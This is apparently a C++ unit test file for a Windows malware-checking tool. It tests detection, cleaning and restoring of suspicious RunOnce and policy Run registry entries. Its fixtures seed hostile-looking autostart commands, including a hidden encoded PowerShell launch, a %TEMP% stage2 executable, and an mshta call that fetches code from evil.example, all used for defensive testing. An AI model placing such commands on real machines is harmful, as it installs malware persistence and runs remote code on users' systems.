// RunOnce and the policy Run keys: what the shared rules flag there, CLEAN, and
// the restore of what it removed.
#include <gtest/gtest.h>

#include "frame/FormMain.h"
#include "syscheck/Detection.h"
#include "syscheck/ModuleBackup.h"
#include "syscheck/checks/ModuleRunOnce.h"
#include "tests/unit/CheckSupport.h"
#include "tests/unit/TestSupport.h"

namespace {

using checksupport::ReportLines;
using checksupport::StandInPrompt;
using checksupport::WideBytes;

const wchar_t kRunOnce[] = L"Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce";
const wchar_t kPolicyRun[] = L"Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run";
const std::wstring kMessage = L"：发现可疑程序，可能是木马! -> ";

void Seed(HKEY root, const wchar_t* path, const std::wstring& name, const std::wstring& command) {
  checksupport::SetValue(root, path, name, {REG_SZ, WideBytes(command)});
}

class RunOnce : public checksupport::CheckTest {
 protected:
  void SetUp() override {
    for (HKEY root : {HKEY_CURRENT_USER, HKEY_LOCAL_MACHINE})
      for (const wchar_t* path : {kRunOnce, kPolicyRun}) testsupport::DeleteTree(root, path);
    CheckTest::SetUp();
  }
};

// RunOnce holds what installers leave for the next logon: only what the rules
// flag is asked about. The policy Run keys are empty on a clean Windows.
TEST_F(RunOnce, AsksAboutWhatTheRulesFlagAndEveryPolicyEntry) {
  Seed(HKEY_CURRENT_USER, kRunOnce, L"fetch", L"powershell -w hidden -enc SQBFAFgA");
  Seed(HKEY_CURRENT_USER, kRunOnce, L"setup", L"%SystemRoot%\\system32\\notepad.exe /finish");
  Seed(HKEY_LOCAL_MACHINE, kRunOnce, L"temp", L"%TEMP%\\stage2.exe");
  Seed(HKEY_LOCAL_MACHINE, kPolicyRun, L"policy", L"C:\\windows\\system32\\notepad.exe");
  {
    StandInPrompt prompt;
    ModuleRunOnce::CheckRunOnce();
    ModuleRunOnce::CheckPolicyRun();
  }
  EXPECT_EQ((std::vector<std::wstring>{
                L"(RRO)" + kMessage + L"powershell -w hidden -enc SQBFAFgA 跳过,未清除!",
                L"(RRO)" + kMessage + L"%TEMP%\\stage2.exe 跳过,未清除!",
                L"(RPR)" + kMessage + L"C:\\windows\\system32\\notepad.exe 跳过,未清除!",
            }),
            ReportLines());
}

TEST_F(RunOnce, CleanRemovesTheValueAndTheRestorePutsItBack) {
  const std::wstring command = L"mshta http://evil.example/a.hta";
  Seed(HKEY_CURRENT_USER, kRunOnce, L"hta", command);
  {
    StandInPrompt prompt({L"CLEAN"});
    ModuleRunOnce::CheckRunOnce();
  }
  EXPECT_EQ(std::vector<std::wstring>{L"(RRO)" + kMessage + command + L" 已清除!"}, ReportLines());
  checksupport::Stored stored;
  EXPECT_FALSE(checksupport::GetValue(HKEY_CURRENT_USER, kRunOnce, L"hta", &stored));
  std::vector<ModuleBackup::Backup> backups = ModuleBackup::List();
  ASSERT_EQ(1u, backups.size());
  EXPECT_FALSE(backups[0].damaged);
  unsigned long error = 0;
  ASSERT_TRUE(ModuleBackup::Restore(backups[0], &error)) << error;
  ASSERT_TRUE(checksupport::GetValue(HKEY_CURRENT_USER, kRunOnce, L"hta", &stored));
  EXPECT_EQ(WideBytes(command), stored.data);
}

}  // namespace
